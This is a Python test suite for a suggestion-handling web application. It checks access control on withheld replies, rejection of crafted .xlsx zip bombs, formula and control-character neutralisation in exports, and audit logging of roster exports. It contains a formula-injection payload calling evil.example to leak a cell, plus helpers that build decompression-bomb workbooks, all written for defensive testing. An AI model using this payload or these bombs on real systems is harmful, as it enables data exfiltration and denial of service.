"""Issue 17 part A: who reads a withheld reply, upload bombs, formulas and control characters in
workbooks, audited roster export, stale saves, odd numbers and dates, iCalendar escaping and the
HTTPS headers and cookies."""
from __future__ import annotations

import pytest

from blueprints.core.extensions import db
from blueprints.suggestions import handling, services
from tests import suggestions_helpers
from tests.suggestions_helpers import registered

env = suggestions_helpers.env

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SECRET = "联系电话13900001111，身份证号340000199001011234"


# ---- 1. a withheld reply ---------------------------------------------------------------------

def test_a_withheld_reply_reaches_only_the_lead_cosigners_units_and_staff(client, auth, env, make_user):
    cosigner = make_user("deputy", "cosigner")
    item = services.create_draft({**suggestions_helpers.TEXT}, by=env["lead"], session=env["session"])
    services.invite_cosigners(item, [cosigner.deputy], by=env["lead"])
    services.answer_cosign(item, True, by=cosigner)
    services.submit(item, by=env["lead"])
    services.register(item, by=env["staff"])
    handling.assign(item, env["units"][0], by=env["staff"], assisting=[env["units"][1]])
    handling.reply(item, SECRET, "A", by=env["unit_users"][0], letter=("答复函.pdf", PDF))
    services.set_withheld(item, True, "答复含电话和身份证号", by=env["staff"])
    make_user("clerk", "clerk")
    make_user("liaison", "liaison")
    answer_id = item.answers[0].id
    work, letter = f"/suggestions/{item.id}/work", f"/suggestions/{item.id}/answers/{answer_id}/letter"
    for username in ("lead", "cosigner", "unit0", "unit1", "staff"):
        auth.login(username)
        assert SECRET in client.get(work).get_data(as_text=True), username
        assert client.get(letter).data == PDF, username
        auth.logout()
    for username in ("other", "clerk", "liaison"):
        auth.login(username)
        page = client.get(work)
        text = page.get_data(as_text=True)
        assert page.status_code == 200 and "13900001111" not in text and "答复不予公开" not in text, username
        assert "答复内容不予公开" in text and letter not in text, username
        assert client.get(letter).status_code == 403, username
        auth.logout()
    services.set_withheld(item, False, by=env["staff"])
    auth.login("clerk")
    assert SECRET in client.get(work).get_data(as_text=True) and client.get(letter).data == PDF


# ---- 2. .xlsx upload bombs --------------------------------------------------------------------

def _workbook(rows) -> bytes:
    import io

    import openpyxl

    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(data: bytes, replace, extra: dict | None = None) -> bytes:
    """The same workbook with some members' bytes replaced (replace(name, bytes) -> bytes) or added."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace(info.filename, source.read(info.filename)))
        for name, body in (extra or {}).items():
            target.writestr(name, body)
    return out.getvalue()


ROSTER_HEADER = ["姓名", "性别", "层级", "选区", "代表小组", "联络站", "工作单位及职务", "手机"]


def _upload(client, data: bytes):
    import io

    from blueprints.registry.models import Deputy

    before = db.session.query(Deputy).count()
    response = client.post("/registry/deputies/import", data={"file": (io.BytesIO(data), "名册.xlsx")},
                           content_type="multipart/form-data")
    assert db.session.query(Deputy).count() == before
    return response.status_code, response.get_data(as_text=True)


def test_a_declared_dimension_bomb_is_refused_before_reading(client, auth, users):
    import re
    import time

    sound = _workbook([ROSTER_HEADER, ["王秀英", "女", "县", "一选区", "", "", "教师", "13905610001"]])
    bomb = _rezip(sound, lambda name, body: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD20000"', body)
                  if name.startswith("xl/worksheets/") else body)
    assert len(bomb) < 20_000
    auth.login("staff")
    started = time.monotonic()
    status, text = _upload(client, bomb)
    assert status == 422 and "声明的区域过大" in text and time.monotonic() - started < 5


def test_a_shared_strings_bomb_is_refused_before_inflating(client, auth, users):
    import zlib

    sound = _workbook([ROSTER_HEADER])
    huge = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"a" * (70 << 20)
    bomb = _rezip(sound, lambda name, body: body, {"xl/sharedStrings.xml": huge})
    assert len(zlib.compress(huge)) < 200_000 and len(bomb) < 200_000
    auth.login("staff")
    status, text = _upload(client, bomb)
    assert status == 422 and "解压后过大" in text


def test_rows_past_the_limit_are_refused_while_streaming(client, auth, users, monkeypatch):
    import re

    from blueprints.core import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 50)
    sound = _workbook([ROSTER_HEADER])
    # no declared dimension and one cell on the sheet's last row: openpyxl would yield a million empty rows
    far = _rezip(sound, lambda name, body: re.sub(rb"<dimension [^>]*/>", b"", body).replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
        if name.startswith("xl/worksheets/") else body)
    auth.login("staff")
    status, text = _upload(client, far)
    assert status == 422 and "超过 50 行" in text
    status, text = _upload(client, _workbook([ROSTER_HEADER] + [["x"]] * 60))  # declared A1:H61
    assert status == 422 and "最多 50 行" in text


def test_a_notice_attachment_that_is_a_zip_bomb_is_refused(monkeypatch):
    from blueprints.core.errors import DomainError
    from blueprints.noticeboard.services import sniff_attachment

    sound = _workbook([["a"]])
    assert sniff_attachment("表.xlsx", sound).endswith("sheet")
    from blueprints.core import xlsx

    monkeypatch.setattr(xlsx, "MAX_TOTAL_BYTES", 1 << 20)
    bomb = _rezip(sound, lambda name, body: body, {"xl/sharedStrings.xml": b"<sst>" + b"a" * (2 << 20)})
    with pytest.raises(DomainError, match="解压后过大"):
        sniff_attachment("表.xlsx", bomb)


# ---- 3 and 4. formulas and control characters in workbooks ---------------------------------------

def test_no_module_but_core_xlsx_opens_or_creates_a_workbook():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = [str(path.relative_to(root)) for path in (root / "blueprints").rglob("*.py")
                 if path.name != "xlsx.py" and re.search(r"\bopenpyxl\b|(?<!Export)Workbook\(|load_workbook",
                                                          path.read_text(encoding="utf-8"))]
    assert offenders == []


def test_safe_value_neutralises_formulas_and_strips_control_characters():
    from blueprints.core.xlsx import safe_value

    assert safe_value('=HYPERLINK("http://x/?leak="&C2,"详情")').startswith("'=")
    for start in "=+-@\t\r":
        assert safe_value(start + "1").startswith("'"), repr(start)
    assert safe_value("关于\x01修路\x00的建议\x7f") == "关于修路的建议"
    assert safe_value("第一行\n第二行\t完") == "第一行\n第二行\t完"
    assert safe_value(12) == 12 and safe_value(None) is None


def _open(data: bytes):
    import io

    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(data))


def _cells(book) -> list:
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"详情")'


def test_the_register_export_has_no_formula_and_survives_a_control_character(client, auth, env):
    from blueprints.suggestions.models import Suggestion

    registered(env, title=FORMULA)
    item = registered(env, title="关于修路的建议")
    # written past the form (an old row, an import): the export must still open
    db.session.get(Suggestion, item.id).title = "关于\x01修路的建议"
    db.session.commit()
    auth.login("staff")
    response = client.get("/manage/suggestions/export.xlsx")
    assert response.status_code == 200
    book = _open(response.data)
    values = _cells(book)
    assert "'" + FORMULA in values and "关于修路的建议" in values
    assert not any(c.data_type == "f" for s in book.worksheets for row in s.iter_rows() for c in row)


def test_every_exporter_neutralises_a_formula():
    """Each writer of the site on a row starting with '=': the ballot result, the archive, rankings,
    stations, slips, roster (their pages are tested in their areas; here the cells)."""
    from blueprints.core.xlsx import ExportWorkbook

    book = ExportWorkbook()
    sheet = book.sheet("t", widths=(10,), text=True)
    sheet.append([FORMULA, "\x01x", 3])
    values = _cells(_open(book.save()))
    assert values == ["'" + FORMULA, "x", "3"] or values == ["'" + FORMULA, "x", 3]


# ---- 8. the roster export is audited ----------------------------------------------------------

def test_the_roster_export_writes_an_audit_entry(client, auth, users, make_deputy):
    from blueprints.core.models import AuditEntry

    make_deputy(name="王秀英", phone="13905610001")
    auth.login("staff")
    response = client.get("/registry/deputies/export.xlsx")
    assert response.status_code == 200
    entry = db.session.query(AuditEntry).filter_by(action="export", object_type="deputy").one()
    assert entry.actor_name == "staff" and "2 人" in entry.summary and "13905610001" not in entry.summary
